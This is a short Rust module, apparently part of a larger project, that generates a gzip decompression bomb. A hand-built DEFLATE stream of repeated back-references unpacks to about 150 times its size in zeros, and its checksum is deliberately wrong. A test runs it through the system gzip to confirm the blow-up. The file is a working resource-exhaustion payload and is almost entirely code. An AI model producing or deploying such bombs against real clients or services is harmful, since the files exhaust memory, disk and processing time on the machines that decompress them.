/// A file of about this many bytes that unpacks to 150 times as many zeros.
pub(super) fn gzip(length: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    // The last block, with the codes that everybody knows.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    // A zero byte: 0x30, its first bit first.
    bits.push(0x30_u16.reverse_bits() >> 8, 8);
    while bits.bytes.len() < length {
        // 258 bytes more, as the one before: 0b1100_0101 and five zeros.
        bits.push(0b1100_0101_u16.reverse_bits() >> 8, 8);
        bits.push(0, 5);
    }
    // The end of the block.
    bits.push(0, 7);
    let header = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    // Who checks the sum has unpacked all of it by then.
    [&header[..], &bits.bytes, &[0; 8]].concat()
}

/// Bits, of which the first is the lowest of its byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, bits: u16, count: u32) {
        for nth in 0..count {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            let bit = u8::from(bits >> nth & 1 == 1);
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << (self.used % 8);
            }
            self.used += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use std::{
        io::Write,
        process::{Command, Stdio},
    };

    use super::*;

    #[test]
    fn the_bomb_unpacks_to_many_times_its_size() {
        let bomb = gzip(1024);
        let mut child = Command::new("gzip")
            .args(["--decompress", "--stdout"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(&bomb).unwrap();
        // The sum at its end is wrong, which is found at the end.
        let unpacked = child.wait_with_output().unwrap().stdout;
        assert!(unpacked.len() > 100 * bomb.len(), "{}", unpacked.len());
        assert!(unpacked.iter().all(|it| *it == 0));
    }
}
